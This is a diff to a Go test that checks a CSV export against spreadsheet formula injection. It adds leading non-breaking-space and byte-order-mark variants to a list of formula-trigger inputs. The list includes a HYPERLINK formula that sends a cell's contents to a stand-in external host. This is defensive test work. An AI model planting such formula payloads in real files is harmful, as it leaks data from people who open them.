@@ -120,7 +120,7 @@ func TestCSVSaysWhatTheJSONDoes(t *testing.T) {
 func TestNoCellIsAFormula(t *testing.T) {
 	f := newFixture(t)
 	kinds := []string{`=HYPERLINK("https://example.com/"&A1)`, "+1", "-1+1", "@SUM(A1)", "\t=1",
-		" =1", "＝1", "tutor"}
+		" =1", "\u00a0=1", "\ufeff=1", "＝1", "tutor"}
 	for i, kind := range kinds {
 		f.ended(1, i, kind, "completed", "2026-03-30T09:01:00Z", 1)
 	}
